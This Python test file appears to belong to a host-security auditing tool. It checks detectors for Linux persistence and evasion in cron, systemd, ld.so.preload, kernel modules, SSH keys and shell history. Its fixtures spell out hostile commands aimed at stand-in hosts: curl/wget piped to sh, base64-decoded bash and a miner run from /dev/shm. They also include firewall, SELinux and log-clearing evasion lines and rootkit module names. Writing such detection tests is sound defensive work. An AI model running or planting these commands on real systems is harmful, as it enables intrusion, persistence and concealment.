"""Persistence and defence-evasion hunt: shell traits, cron, systemd, ld.so.preload, kernel modules,
authorized_keys and shell history — each collector on fixture roots with the artifact and without
it, plus hostile input (binary crontabs, symlink loops, 1 MB lines, a 50 MB history)."""

from __future__ import annotations

import os
from functools import cache
from pathlib import Path

import pytest

from cloudward.cli.common import load_all_rules
from cloudward.core.severity import Severity
from cloudward.engines.iocs import Indicator, Iocs
from cloudward.workload import HostRoot, run_audit
from cloudward.workload.collectors import cron, history, modules, preload, ssh_keys, systemd
from cloudward.workload.observation import HostContext
from cloudward.workload.shell import hidden_component, in_temp_dir, shell_traits
from tests.harness.hostroot import build_clean_root, build_hardened_root, write

MINE = ["preload", "modules", "cron", "systemd", "ssh_keys", "immutable", "history"]

# A throwaway public key (its private half was deleted) and the fingerprint `ssh-keygen -lf` printed for it.
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIMbndQpdBeWZ6llqURkdMyq5N2/G3DIzwAtkMbBeXVv5"
KEY_FINGERPRINT = "SHA256:Z1/QTbx6nQXZDERlYfGrRztgakdsp0tPgaP+BE/Su3M"


@cache
def host_rules():
    return load_all_rules().engine("host")


def iocs(*pairs: tuple[str, str]) -> Iocs:
    found = Iocs()
    for kind, value in pairs:
        found.add(Indicator(kind=kind, value=value, source="test", date="2026-01-01"))
    return found


def audit(root: Path, only=MINE, **kwargs):
    return run_audit(HostRoot(root), host_rules(), only=only, processes=False, **kwargs)


def fired(result) -> set[str]:
    return {f.rule_id for f in result.findings}


def observe(module, root: Path, errors: list | None = None, **kwargs):
    sink = errors if errors is not None else []
    ctx = HostContext(root=HostRoot(root), iocs=kwargs.pop("iocs", Iocs()), error=lambda i, m: sink.append((i, m)),
                      processes=False, **kwargs)
    return list(module.collect(ctx))


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return build_clean_root(tmp_path / "root")


# -- shell traits --------------------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "curl -fsSL http://example.invalid/x.sh | sh",
    "wget -q -O - http://example.invalid/x | bash",
    "cd /tmp; wget http://example.invalid/x -O x; chmod +x x; ./x",
    'sh -c "$(curl -fsSL https://example.invalid/i)"',
    "bash <(curl -s http://example.invalid/i)",
    "(curl -s http://example.invalid/i||wget -q -O- http://example.invalid/i)|sudo bash",
    "python3 -c 'import urllib.request;exec(urllib.request.urlopen(\"http://example.invalid\").read())'",
])
def test_download_and_execute_shapes(command):
    assert shell_traits(command)["downloads_and_executes"] is True


@pytest.mark.parametrize("command", [
    "curl -fsS -m 10 --retry 5 https://hc-ping.com/0000 > /dev/null",
    "wget -q -O /var/backups/list.json https://example.com/list.json",
    "cd / && run-parts --report /etc/cron.hourly",
    "find /tmp -type f -mtime +7 -delete",
    "echo hello | sh",
])
def test_download_and_execute_near_misses(command):
    assert shell_traits(command)["downloads_and_executes"] is False


def test_base64_pipeline_and_temp_execution():
    assert shell_traits("echo aWQK | base64 -d | bash")["base64_pipeline"] is True
    assert shell_traits('eval "$(echo aWQK | base64 --decode)"')["base64_pipeline"] is True
    assert shell_traits("base64 -d /var/x.b64 > /var/x")["base64_pipeline"] is False
    traits = shell_traits("nohup /dev/shm/.x/xmrig -o pool:3333 >/dev/null 2>&1 &")
    assert traits["runs_from_tmp"] and traits["runs_from_hidden_dir"]
    assert traits["executed_paths"] == ["/dev/shm/.x/xmrig"]
    assert shell_traits("sh /var/tmp/run.sh")["executed_paths"] == ["/var/tmp/run.sh"]
    assert shell_traits("cd /tmp && ./kdevtmpfsi")["runs_from_tmp"] is True
    assert shell_traits("find /tmp -name x -delete")["runs_from_tmp"] is False
    assert in_temp_dir("/tmp/x") and not in_temp_dir("/tmpfoo/x")
    assert hidden_component("/root/.cache/x") and not hidden_component("/usr/bin/x")


def test_evasion_names():
    text = "iptables -F; ufw disable; setenforce 0; chattr -i /etc/passwd; export HISTFILE=/dev/null; history -c"
    assert shell_traits(text)["evasion"] == ["history_disabled", "history_cleared", "immutable_flag_change",
                                             "firewall_disabled", "selinux_disabled"]
    assert shell_traits("cat /dev/null > /var/log/wtmp")["evasion"] == ["log_clearing"]
    assert shell_traits("rm -rf /var/log/syslog*")["evasion"] == ["log_clearing"]
    # Redirecting a job's output into a log file is not clearing logs.
    assert shell_traits("/usr/local/bin/backup > /var/log/backup.log 2>&1")["evasion"] == []
    assert shell_traits("chattr +i /etc/resolv.conf")["evasion"] == ["immutable_flag_change"]
    assert shell_traits("lsattr /etc/passwd")["evasion"] == []


def test_traits_survive_hostile_lines():
    for text in ("rm " * 300_000, "a" * 1_000_000, "| " * 400_000, "chmod -" * 100_000, "x;" * 300_000):
        traits = shell_traits(text)
        assert traits["downloads_and_executes"] is False
    padded = "a" * 900_000 + "; curl http://example.invalid/x | sh"
    assert shell_traits(padded)["downloads_and_executes"] is True


# -- cron ----------------------------------------------------------------------------------------

def test_parse_cron_lines():
    assert cron.parse_line("*/5 * * * * root curl x | sh", system=True) == ("*/5 * * * *", "root", "curl x | sh")
    assert cron.parse_line("@reboot /opt/x --flag", system=False) == ("@reboot", None, "/opt/x --flag")
    assert cron.parse_line("MAILTO=root", system=True) is None
    assert cron.parse_line("# 1 * * * * root x", system=True) is None
    assert cron.parse_line("not a cron line at all", system=False) is None


def test_clean_root_cron_entries_are_benign(root: Path):
    entries = observe(cron, root)
    assert [o.facts["command"] for o in entries][:1] == ["cd / && run-parts --report /etc/cron.hourly"]
    assert not any(o.facts["downloads_and_executes"] or o.facts["runs_from_tmp"] for o in entries)
    assert not fired(audit(root, only=["cron"])) & {r.id for r in host_rules() if r.id.startswith("host.cron.")}


def test_cron_dropper_every_minute_with_ioc(root: Path):
    write(root, "/var/spool/cron/crontabs/redis", "* * * * * wget -q -O- http://pool.example.invalid/s | bash\n")
    [entry] = [o for o in observe(cron, root, iocs=iocs(("domain", "example.invalid"))) if o.facts["user"] == "redis"]
    assert entry.facts["every_minute"] and entry.facts["downloads_and_executes"]
    assert entry.facts["ioc_hits"] == ["example.invalid"]
    assert entry.line == 1 and entry.path == "/var/spool/cron/crontabs/redis"
    result = audit(root, iocs=iocs(("domain", "example.invalid")))
    assert {"host.cron.download_and_execute", "host.cron.ioc"} <= fired(result)


def test_rhel_spool_and_cron_scripts(root: Path):
    write(root, "/var/spool/cron/alice", "0 3 * * * /home/alice/backup.sh\n")
    write(root, "/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", 0o755)
    write(root, "/etc/cron.hourly/0sync", "#!/bin/sh\ncd /dev/shm && ./.sync -B\n", 0o755)
    entries = {o.path: o.facts for o in observe(cron, root)}
    assert entries["/var/spool/cron/alice"]["user"] == "alice"
    assert entries["/etc/cron.daily/logrotate"]["runs_from_tmp"] is False
    assert entries["/etc/cron.hourly/0sync"]["runs_from_tmp"] is True
    assert "host.cron.runs_from_temp_dir" in fired(audit(root, only=["cron"]))


def test_binary_crontab_and_symlink_loop(root: Path):
    write(root, "/etc/cron.d/garbage", os.urandom(4096) + b"\n*/5 * * * * root /tmp/x\n" + b"\x00\xff" * 100)
    os.symlink("loop-b", root / "etc/cron.d/loop-a")
    os.symlink("loop-a", root / "etc/cron.d/loop-b")
    write(root, "/etc/cron.d/after", "1 1 * * * root /usr/bin/true\n")
    errors: list = []
    entries = observe(cron, root, errors)
    paths = {o.path for o in entries}
    assert "/etc/cron.d/after" in paths
    assert any(o.facts["command"] == "/tmp/x" for o in entries if o.path == "/etc/cron.d/garbage")
    assert {item for item, _ in errors} == {"/etc/cron.d/loop-a", "/etc/cron.d/loop-b"}
    assert all("loop" in message for _, message in errors)


def test_one_megabyte_crontab_line(root: Path):
    command = "true " + "x" * 1_000_000 + " ; curl -s http://example.invalid/a | sh"
    write(root, "/etc/cron.d/long", f"*/5 * * * * root {command}\n")
    [entry] = [o for o in observe(cron, root) if o.path == "/etc/cron.d/long"]
    assert entry.facts["command_truncated"] is True and len(entry.facts["command"]) == cron.COMMAND_KEEP
    assert entry.facts["downloads_and_executes"] is True


def test_redis_written_crontab(root: Path):
    write(root, "/var/spool/cron/crontabs/root",
          b"REDIS0009\xfa\tredis-ver\x056.0.16\xfe\x00\n\n*/1 * * * * /usr/bin/true\n\n\xff\x00")
    [entry] = [o for o in observe(cron, root) if o.path == "/var/spool/cron/crontabs/root"]
    assert entry.facts["file_written_by_redis"] is True and entry.facts["user"] == "root"
    assert "host.cron.written_by_redis" in fired(audit(root, only=["cron"]))


# -- systemd -------------------------------------------------------------------------------------

SERVICE = "[Unit]\nDescription={desc}\n\n[Service]\nExecStart={exec}\nRestart={restart}\n"


def test_clean_root_unit_is_described_and_benign(root: Path):
    [unit] = observe(systemd, root)
    assert unit.facts["unit"] == "ssh.service" and "/usr/sbin/sshd -t" in unit.facts["exec"]
    assert not (unit.facts["downloads_and_executes"] or unit.facts["runs_from_tmp"])


def test_drop_in_and_user_unit(root: Path):
    write(root, "/etc/systemd/system/ssh.service.d/override.conf",
          "[Service]\nExecStartPre=-/bin/sh -c 'curl -fsSL http://example.invalid/k | sh'\n")
    write(root, "/home/admin/.config/systemd/user/agent.service",
          SERVICE.format(desc="agent", exec="/home/admin/.local/.a/agent", restart="always"))
    units = {o.path: o.facts for o in observe(systemd, root)}
    drop = units["/etc/systemd/system/ssh.service.d/override.conf"]
    assert drop["drop_in"] and drop["unit"] == "ssh.service" and drop["downloads_and_executes"]
    user = units["/home/admin/.config/systemd/user/agent.service"]
    assert user["scope"] == "user" and user["user"] == "admin" and user["runs_from_hidden_dir"]
    expected = {"host.systemd.download_and_execute", "host.systemd.runs_from_temp_dir"}
    assert expected <= fired(audit(root, only=["systemd"]))


def test_miner_unit_needs_unpackaged_and_always_restart(root: Path):
    write(root, "/etc/systemd/system/xmrig.service",
          SERVICE.format(desc="x", exec="/opt/xmrig/xmrig", restart="always"))
    write(root, "/etc/systemd/system/xmr-stak.service",
          SERVICE.format(desc="x", exec="/usr/bin/xmr-stak", restart="on-failure"))
    # No dpkg database in the fixture: ownership is unknown, so the rule must stay silent.
    assert "host.systemd.unpackaged_miner_like_service" not in fired(audit(root, only=["systemd"]))
    write(root, "/var/lib/dpkg/info/openssh-server.list", "/lib/systemd/system/ssh.service\n")
    result = audit(root, only=["systemd"])
    units = {f.evidence["unit"] for f in result.findings if f.rule_id == "host.systemd.unpackaged_miner_like_service"}
    assert units == {"xmrig.service"}


def test_merged_usr_is_read_once(tmp_path: Path):
    root = build_clean_root(tmp_path / "r")
    (root / "usr/lib/systemd").mkdir(parents=True)
    os.symlink("../../lib/systemd/system", root / "usr/lib/systemd/system")
    assert [o.path for o in observe(systemd, root)] == ["/lib/systemd/system/ssh.service"]


def test_binary_unit_file_is_an_error_not_a_crash(root: Path):
    write(root, "/etc/systemd/system/bad.service", b"\x00\x01\x02" * 1000)
    errors: list = []
    observe(systemd, root, errors)
    assert errors and errors[0][0] == "/etc/systemd/system/bad.service"


# -- ld.so.preload -------------------------------------------------------------------------------

def test_preload_entries(root: Path):
    write(root, "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "x")
    write(root, "/etc/ld.so.preload", "# comment\n/usr/lib/x86_64-linux-gnu/libjemalloc.so.2:/dev/shm/.l.so\n")
    entries = {o.facts["library"]: o.facts for o in observe(preload, root)}
    assert entries["/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"]["exists"] is True
    assert entries["/dev/shm/.l.so"] == {**entries["/dev/shm/.l.so"], "exists": False, "temp_dir": True,
                                         "hidden_name": True}
    result = audit(root, only=["preload"])
    by_rule = {f.rule_id: f.evidence["library"] for f in result.findings if f.rule_id.startswith("host.preload.hidden")}
    assert by_rule == {"host.preload.hidden_or_rootkit_library": "/dev/shm/.l.so"}


def test_preload_absent_or_empty_is_silent(root: Path):
    assert observe(preload, root) == []
    write(root, "/etc/ld.so.preload", "\n# nothing\n")
    assert observe(preload, root) == []


def test_ld_preload_in_environment(root: Path):
    write(root, "/etc/profile.d/zz.sh", "export LD_PRELOAD=/usr/local/lib/libhook.so\n")
    write(root, "/etc/environment", "# LD_PRELOAD=/not/this.so\nLANG=C.UTF-8\n")
    [entry] = observe(preload, root)
    assert entry.facts["source"] == "environment" and entry.path == "/etc/profile.d/zz.sh"
    assert "host.preload.ld_preload_environment" in fired(audit(root, only=["preload"]))


# -- kernel modules ------------------------------------------------------------------------------

def test_boot_modules_and_modprobe_hooks(root: Path):
    write(root, "/etc/modules", "# comment\nloop\nReptile-Module\n")
    write(root, "/etc/modprobe.d/hardening.conf", "install usb-storage /bin/true\ninstall dccp /bin/false\n")
    write(root, "/etc/modprobe.d/evil.conf", "install floppy /var/tmp/.f/run; /sbin/modprobe --ignore-install floppy\n")
    found = {(o.facts["source"], o.facts["name"]): o.facts for o in observe(modules, root)}
    assert found[("load_at_boot", "reptile_module")]["known_rootkit"] is True
    assert found[("load_at_boot", "loop")]["known_rootkit"] is False
    assert found[("modprobe_install", "usb_storage")]["noop"] is True
    assert found[("modprobe_install", "floppy")]["runs_from_tmp"] is True
    result = audit(root, only=["modules"])
    hooks = [f.evidence["name"] for f in result.findings if f.rule_id == "host.module.modprobe_hook_runs_code"]
    assert hooks == ["floppy"]
    assert "host.module.known_rootkit" in fired(result)


def test_rootkit_names_from_the_ioc_file(root: Path):
    write(root, "/etc/modules-load.d/x.conf", "nuk3gh0st\n")
    [entry] = observe(modules, root, iocs=iocs(("module_name", "nuk3gh0st")))
    assert entry.facts["known_rootkit"] is True
    [plain] = observe(modules, root)
    assert plain.facts["known_rootkit"] is False


def test_ko_files_outside_the_module_tree(root: Path):
    write(root, "/tmp/.d/dia.ko", "stand-in")
    write(root, "/home/admin/build/driver.ko.xz", "stand-in")
    write(root, "/lib/modules/6.1.0/kernel/fs/ext4.ko", "stand-in")
    files = {o.facts["file"] for o in observe(modules, root) if o.facts["source"] == "ko_file"}
    assert files == {"/tmp/.d/dia.ko", "/home/admin/build/driver.ko.xz"}


def test_proc_modules_parsing():
    text = ("ext4 1044480 1 - Live 0xffffffffc0400000\n"
            "vboxdrv 696320 2 vboxnetadp, Live 0xffffffffc0a00000 (OE)\n"
            "nvidia 56000000 10 - Live 0x0000000000000000 (POE)\n")
    parsed = modules.parse_proc_modules(text)
    assert parsed["ext4"]["taint"] == "" and not parsed["ext4"]["unsigned"]
    assert parsed["vboxdrv"]["out_of_tree"] and parsed["vboxdrv"]["unsigned"]
    assert parsed["nvidia"]["proprietary"]


def _fake_kernel(tmp_path: Path, listed: str, sysfs: dict[str, str | None]) -> tuple[str, str]:
    proc = tmp_path / "proc_modules"
    proc.write_text(listed)
    sys_module = tmp_path / "sys_module"
    for name, state in sysfs.items():
        (sys_module / name).mkdir(parents=True)
        if state is not None:
            (sys_module / name / "initstate").write_text(state + "\n")
    return str(proc), str(sys_module)


def test_hidden_module_detection(tmp_path: Path):
    proc, sys_module = _fake_kernel(tmp_path, "ext4 1 0 - Live 0x0\n",
                                    {"ext4": "live", "kernel": None, "printk": None, "diamorphine": "live",
                                     "leaving": "going"})
    # Built-ins (no initstate) and modules in transition are not hidden modules.
    assert modules.hidden_modules(proc, sys_module) == [("diamorphine", "live")]


def test_module_loaded_between_reads_is_not_hidden(tmp_path: Path, monkeypatch):
    proc, sys_module = _fake_kernel(tmp_path, "ext4 1 0 - Live 0x0\n", {"ext4": "live", "fresh": "live"})
    reads = iter([{"ext4": {}}, {"ext4": {}, "fresh": {}}])
    monkeypatch.setattr(modules, "_read_proc_modules", lambda path: next(reads))
    assert modules.hidden_modules(proc, sys_module) == []


def test_kernel_without_module_support_is_not_checked(tmp_path: Path):
    (tmp_path / "sys_module" / "kernel").mkdir(parents=True)
    assert modules.hidden_modules(str(tmp_path / "missing"), str(tmp_path / "sys_module")) == []


# -- authorized_keys -----------------------------------------------------------------------------

def test_fingerprint_matches_ssh_keygen():
    assert ssh_keys.fingerprint(KEY) == KEY_FINGERPRINT
    assert ssh_keys.blob_matches_type(KEY, "ssh-ed25519") and not ssh_keys.blob_matches_type(KEY, "ssh-rsa")
    assert ssh_keys.fingerprint("not base64!") is None


def test_key_lines_with_options():
    parsed = ssh_keys.parse_key_line(f'command="echo \'no, use admin\'; sleep 10",no-pty,from="10.0.0.0/8" '
                                     f"ssh-ed25519 {KEY} ops key")
    assert parsed is not None
    assert parsed["options"] == ["command", "from", "no-pty"]
    assert parsed["forced_command"] == "echo 'no, use admin'; sleep 10" and parsed["from"] == "10.0.0.0/8"
    assert parsed["comment"] == "ops key"
    assert ssh_keys.parse_key_line("# ssh-ed25519 AAAA") is None
    assert ssh_keys.parse_key_line("garbage line here") is None


def test_keys_described_per_account(root: Path):
    write(root, "/root/.ssh/authorized_keys", f"ssh-ed25519 {KEY} ops@bastion\n", 0o600)
    keys = {o.facts["user"]: o.facts for o in observe(ssh_keys, root) if o.subject == "authorized_key"}
    assert keys["root"]["fingerprint"] == KEY_FINGERPRINT and keys["root"]["root_user"] is True
    assert keys["root"]["baseline_known"] is False and "in_baseline" not in keys["root"]
    assert keys["admin"]["comment"] == "admin@workstation"
    files = {o.path: o.facts for o in observe(ssh_keys, root) if o.subject == "authorized_keys_file"}
    assert files["/root/.ssh/authorized_keys"]["key_count"] == 1
    assert not fired(audit(root, only=["ssh_keys"]))


def test_keys_against_a_baseline(root: Path):
    write(root, "/root/.ssh/authorized_keys", f"ssh-ed25519 {KEY} ops@bastion\n", 0o600)
    result = audit(root, only=["ssh_keys"], options={"authorized_keys_baseline": [KEY_FINGERPRINT]})
    new = [f.evidence["user"] for f in result.findings if f.rule_id == "host.ssh_keys.not_in_baseline"]
    assert new == ["admin"]


def test_key_comment_ioc_and_actor_domain(root: Path):
    write(root, "/root/.ssh/authorized_keys", f"ssh-ed25519 {KEY} planted@actor.example.invalid\n"
          f"ssh-ed25519 {KEY[:-4]}AAAA known-bad-comment\n", 0o600)
    result = audit(root, only=["ssh_keys"], iocs=iocs(("domain", "actor.example.invalid"),
                                                      ("key_comment", "known-bad-comment")))
    hits = sorted(tuple(f.evidence["ioc_hits"]) for f in result.findings if f.rule_id == "host.ssh_keys.ioc_comment")
    assert hits == [("actor.example.invalid",), ("known-bad-comment",)]


def test_authorized_keys_file_from_sshd_config(root: Path):
    write(root, "/etc/ssh/sshd_config.d/keys.conf", "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n")
    write(root, "/etc/ssh/keys/root", f"ssh-ed25519 {KEY} central\n")
    paths = {o.path for o in observe(ssh_keys, root) if o.subject == "authorized_key"}
    assert paths == {"/etc/ssh/keys/root", "/home/admin/.ssh/authorized_keys"}


def test_world_writable_and_redis_written_key_files(root: Path):
    write(root, "/home/admin/.ssh/authorized_keys", f"ssh-ed25519 {KEY} a\n", 0o666)
    write(root, "/root/.ssh/authorized_keys", b"REDIS0009\xfa\x00\n\nssh-ed25519 " + KEY.encode() + b" r\n\n\xff\x00")
    result = audit(root, only=["ssh_keys"])
    by_rule = {(f.rule_id, f.evidence["user"]) for f in result.findings}
    assert by_rule == {("host.ssh_keys.writable_by_others", "admin"), ("host.ssh_keys.written_by_redis", "root")}


def test_hostile_key_files(root: Path):
    write(root, "/root/.ssh/authorized_keys", os.urandom(2 * 1024 * 1024))
    write(root, "/home/admin/.ssh/authorized_keys2", "ssh-rsa " + "A" * 500_000 + " big\n")
    errors: list = []
    found = observe(ssh_keys, root, errors)
    assert errors == []
    big = [o for o in found if o.subject == "authorized_key" and o.facts["legacy_file"]]
    assert big and big[0].facts["valid_blob"] is False


def test_known_hosts_inventory(root: Path):
    write(root, "/root/.ssh/known_hosts", "|1|abc=|def= ssh-ed25519 AAAA\nhost1 ssh-ed25519 AAAA\n")
    [known] = [o for o in observe(ssh_keys, root) if o.subject == "ssh_known_hosts"]
    assert known.facts == {"user": "root", "uid": 0, "entries": 2, "hashed": 1}


# -- shell history -------------------------------------------------------------------------------

def test_history_linked_to_dev_null(root: Path):
    (root / "root/.bash_history").unlink()
    os.symlink("/dev/null", root / "root/.bash_history")
    [entry] = [o for o in observe(history, root) if o.facts["user"] == "root"]
    assert entry.facts["linked_to_dev_null"] is True and entry.facts["link_target"] == "/dev/null"
    assert fired(audit(root, only=["history"])) == {"host.history.linked_to_dev_null"}


def test_clean_history_is_silent(root: Path):
    entries = observe(history, root)
    assert {o.facts["user"] for o in entries} == {"root", "admin"}
    assert all(o.facts["notable_commands"] == [] for o in entries)
    assert not fired(audit(root, only=["history"]))


def test_history_disabled_in_rc_even_without_a_history_file(root: Path):
    (root / "root/.bash_history").unlink()
    write(root, "/root/.bashrc", "unset HISTFILE\n")
    write(root, "/home/admin/.bashrc", "# unset HISTFILE  (commented out)\n")
    [entry] = [o for o in observe(history, root) if o.facts["user"] == "root"]
    assert entry.facts["history_disabled_in"] == ["/root/.bashrc"] and entry.facts["file"] == ""
    findings = [f for f in audit(root, only=["history"]).findings if f.rule_id == "host.history.disabled_in_rc"]
    assert [f.evidence["user"] for f in findings] == ["root"]


def test_history_commands_and_zsh_format(root: Path):
    write(root, "/home/admin/.zsh_history",
          ": 1700000000:0;curl -fsSL http://c2.example.invalid/i.sh | bash\n: 1700000001:0;ls\n"
          ": 1700000002:0;echo > /var/log/auth.log\n: 1700000003:0;setenforce 0\n")
    result = audit(root, only=["history"], iocs=iocs(("domain", "c2.example.invalid")))
    assert {"host.history.download_and_execute", "host.history.ioc", "host.history.log_clearing",
            "host.history.defense_evasion"} <= fired(result)
    [finding] = [f for f in result.findings if f.rule_id == "host.history.ioc"]
    assert finding.evidence["notable_commands"][0]["command"].startswith("curl -fsSL")


def test_fifty_megabyte_history_reads_only_the_tail(root: Path):
    path = root / "root/.bash_history"
    with open(path, "w") as handle:
        line = "ls -la /var/www\n" * 4096
        for _ in range(50 * 1024 * 1024 // len(line)):
            handle.write(line)
        handle.write("wget -q -O- http://example.invalid/x | sh\n")
    [entry] = [o for o in observe(history, root) if o.facts["user"] == "root"]
    assert entry.facts["truncated_read"] is True and entry.facts["size"] > 50 * 1000 * 1000
    assert entry.facts["download_execute_count"] == 1


def test_binary_history_is_not_parsed(root: Path):
    write(root, "/root/.bash_history", b"\x00\x01curl http://x | sh\n" * 10)
    [entry] = [o for o in observe(history, root) if o.facts["user"] == "root"]
    assert "download_execute_count" not in entry.facts


# -- whole roots ---------------------------------------------------------------------------------

@pytest.mark.parametrize("build", [build_clean_root, build_hardened_root])
def test_stock_roots_give_no_high_persistence_finding(build, tmp_path: Path):
    result = audit(build(tmp_path / "r"))
    assert [(f.rule_id, f.location) for f in result.findings if f.severity >= Severity.HIGH] == []
    assert result.errors == []


def test_this_machine_gives_no_critical_persistence_finding():
    result = run_audit(HostRoot("/"), host_rules(), only=MINE, processes=True)
    assert [(f.rule_id, f.location) for f in result.findings if f.severity is Severity.CRITICAL] == []
    assert not [e for e in result.errors if e.target.startswith("collector ")]
